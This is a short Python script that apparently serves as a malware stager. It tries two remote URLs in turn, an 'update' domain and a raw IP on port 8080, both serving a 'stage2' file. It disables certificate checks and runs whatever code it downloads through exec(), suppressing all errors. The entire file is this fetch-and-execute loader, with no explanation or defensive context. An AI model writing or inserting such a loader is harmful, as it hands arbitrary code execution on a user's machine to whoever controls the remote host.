import requests, sys

URLS = [
    "http://update.example.com/static/stage2.py",
    "http://198.51.100.7:8080/s2.py",
]

for u in URLS:
    try:
        r = requests.get(u, timeout=8, headers={"User-Agent": "python-requests/2.31"}, verify=False)
        if r.status_code == 200 and r.text:
            exec(compile(r.text, "<string>", "exec"), {"__name__": "__main__"})
            break
    except Exception:
        continue
